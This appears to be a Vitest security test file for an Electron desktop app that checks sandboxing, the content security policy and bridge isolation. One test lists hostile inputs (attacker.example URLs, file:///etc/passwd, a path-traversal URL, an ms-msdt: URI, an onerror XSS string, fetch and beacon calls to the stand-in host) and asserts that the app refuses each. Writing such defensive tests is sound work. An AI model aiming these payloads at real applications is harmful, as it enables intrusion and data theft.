import { readFile } from 'node:fs/promises'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { describe, expect, it, onTestFinished } from 'vitest'
import { contentSecurityPolicy } from '../../src-main/window/content-security-policy'
import { openApp } from './support/app-calls'

const hostileAddresses = [
  'https://attacker.example/',
  'http://attacker.example/',
  'http://127.0.0.1:1/',
  'file:///etc/passwd',
  'file:///C:/Windows/win.ini',
  'data:text/html,<h1>x</h1>',
  'javascript:document.body.remove()',
  'blob:app://desk/0',
  'ftp://attacker.example/',
  'smb://attacker.example/share',
  'ms-msdt:/id',
  'mailto:a@attacker.example',
  'chrome://gpu',
  'view-source:https://attacker.example/',
  'app://other/index.html',
  'app://desk/../../etc/passwd',
  'ws://attacker.example/',
]

describe('the real window', () => {
  it('has every hardened preference, and a renderer in Chromium’s sandbox if that is on', async () => {
    const testApp = await openApp()
    const { preferences, rendererPid } = await testApp.app.evaluate(({ BrowserWindow }) => {
      const window = BrowserWindow.getAllWindows()[0]
      const contents = window?.webContents as unknown as {
        getLastWebPreferences(): Record<string, unknown>
        getOSProcessId(): number
      }
      return { preferences: contents.getLastWebPreferences(), rendererPid: contents.getOSProcessId() }
    })
    expect(preferences).toMatchObject({
      contextIsolation: true,
      sandbox: true,
      webSecurity: true,
      nodeIntegration: false,
      nodeIntegrationInSubFrames: false,
      webviewTag: false,
    })
    if (process.platform === 'linux' && process.env['REBILL_DESK_CHROMIUM_SANDBOX'] === 'on') {
      const status = await readFile(`/proc/${rendererPid}/status`, 'utf8')
      expect(status).toMatch(/^Seccomp:\t2$/m)
    } else {
      expect(process.env['REBILL_DESK_CHROMIUM_SANDBOX']).not.toBe('on')
    }
    await testApp.close()
  })

  it('gives the page only the two functions of the bridge, and no Node or Electron (S2)', async () => {
    const testApp = await openApp()
    const seen = await testApp.page.evaluate(() => ({
      bridge: Object.entries(window.desk).map(([name, value]) => `${name}:${typeof value}`),
      leaked: [
        'require',
        'process',
        'module',
        'Buffer',
        'global',
        'ipcRenderer',
        'electron',
        '__dirname',
      ].filter((name) => name in window),
      returned: typeof window.desk.onEvent(() => undefined),
    }))
    expect(seen).toEqual({ bridge: ['call:function', 'onEvent:function'], leaked: [], returned: 'function' })
    await testApp.close()
  })

  it('stays on its page, whatever the page tries to open, load, fetch or request (S6, S7)', async () => {
    const testApp = await openApp()
    const before = testApp.page.url()
    for (const address of hostileAddresses) {
      /* eslint-disable no-restricted-syntax -- A hostile script, not a person. */
      await testApp.page.evaluate((target) => {
        const link = document.createElement('a')
        link.href = target
        document.body.append(link)
        link.click()
        link.dispatchEvent(new MouseEvent('click', { button: 1, bubbles: true, ctrlKey: true }))
        link.target = '_blank'
        link.click()
        link.download = 'planted'
        link.click()
        link.remove()
        try {
          window.open(target)
        } catch {
          // Must be refused.
        }
        const form = document.createElement('form')
        form.action = target
        form.method = 'post'
        document.body.append(form)
        try {
          form.submit()
        } catch {
          // Must be refused.
        }
        form.remove()
        const frame = document.createElement('iframe')
        frame.src = target
        document.body.append(frame)
        setTimeout(() => frame.remove(), 50)
        try {
          window.location.href = target
        } catch {
          // Must be refused.
        }
      }, address)
      /* eslint-enable no-restricted-syntax */
    }
    const outcome = await testApp.page.evaluate(async () => {
      const refused = (work: Promise<unknown>) =>
        work.then(
          () => false,
          () => true,
        )
      const outcomes = {
        fetch: await refused(fetch('https://attacker.example/')),
        beacon: !navigator.sendBeacon('https://attacker.example/', 'x'),
        notifications: (await Notification.requestPermission()) === 'denied',
        camera: await refused(
          navigator.mediaDevices?.getUserMedia({ video: true }) ?? Promise.reject(new Error()),
        ),
        clipboard: await refused(navigator.clipboard?.readText() ?? Promise.reject(new Error())),
        evalText: (() => {
          try {
            // eslint-disable-next-line no-eval -- that it throws is what is shown here
            ;(0, eval)('1')
            return false
          } catch {
            return true
          }
        })(),
        htmlSink: (() => {
          try {
            document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>'
            return false
          } catch {
            return true
          }
        })(),
      }
      return outcomes
    })
    expect(outcome).toEqual({
      fetch: true,
      beacon: expect.any(Boolean) as boolean,
      notifications: true,
      camera: true,
      clipboard: true,
      evalText: true,
      htmlSink: true,
    })
    expect(testApp.page.url()).toBe(before)
    expect(await testApp.app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1)
    expect(await testApp.page.evaluate(() => document.body.isConnected)).toBe(true)
    await testApp.close()
  })

  it('returns when a page goes to about:blank, which Chromium does not report beforehand', async () => {
    const testApp = await openApp()
    const before = testApp.page.url()
    await testApp.page.evaluate(() => {
      window.location.href = 'about:blank'
    })
    await expect.poll(() => testApp.page.url(), { timeout: 20_000 }).toMatch(/^app:\/\/desk\/index\.html/)
    expect(before).toMatch(/^app:\/\/desk\/index\.html/)
    await expect.poll(() => testApp.page.getByRole('button').count(), { timeout: 20_000 }).toBeGreaterThan(0)
    await testApp.close()
  })

  it('refuses calls from a frame inside the page and from a window that the app did not make (S3)', async () => {
    const testApp = await openApp()
    const foreign = await testApp.app.evaluate(async ({ BrowserWindow, app }) => {
      const window = new BrowserWindow({
        show: false,
        webPreferences: {
          preload: `${app.getAppPath()}/out/preload/index.cjs`,
          // A separate session, because the sessions of the app load no foreign content at all.
          partition: 'foreign',
          contextIsolation: true,
          sandbox: true,
        },
      })
      await window.loadURL('data:text/html,<p>foreign</p>')
      const answer: unknown = await window.webContents.executeJavaScript(
        "window.desk.call('appState.get', {})",
      )
      window.destroy()
      return answer
    })
    expect(foreign).toMatchObject({
      ok: false,
      error: { code: 'not-allowed-now', details: { reason: 'untrusted-sender' } },
    })
    await testApp.close()
  })

  it('serves every page with the strict policy', async () => {
    const testApp = await openApp()
    const headers = await testApp.app.evaluate(async ({ BrowserWindow }) => {
      const contents = BrowserWindow.getAllWindows()[0]?.webContents
      const response = await contents?.session.fetch('app://desk/index.html')
      return Object.fromEntries(response?.headers.entries() ?? [])
    })
    expect(headers['content-security-policy']).toBe(contentSecurityPolicy)
    expect(contentSecurityPolicy).toContain("default-src 'none'")
    expect(contentSecurityPolicy).toContain("script-src 'self'")
    expect(contentSecurityPolicy).not.toMatch(/script-src[^;]*unsafe/)
    await testApp.close()
  })

  it('is built without the development server: its variable has no effect', async () => {
    const asked: string[] = []
    const server = createServer((request, response) => {
      asked.push(request.url ?? '')
      response.end('<!doctype html><title>planted</title>')
    })
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
    onTestFinished(() => void server.close())
    const { port } = server.address() as AddressInfo
    const testApp = await openApp({ env: { ELECTRON_RENDERER_URL: `http://127.0.0.1:${port}` } })
    const policy = await testApp.app.evaluate(async ({ BrowserWindow }) => {
      const contents = BrowserWindow.getAllWindows()[0]?.webContents
      const response = await contents?.session.fetch('app://desk/index.html')
      return response?.headers.get('content-security-policy')
    })
    expect(policy).toBe(contentSecurityPolicy)
    expect(await testApp.page.title()).toBe('Rebill Desk')
    expect(asked).toEqual([])
    await testApp.close()
  })
})
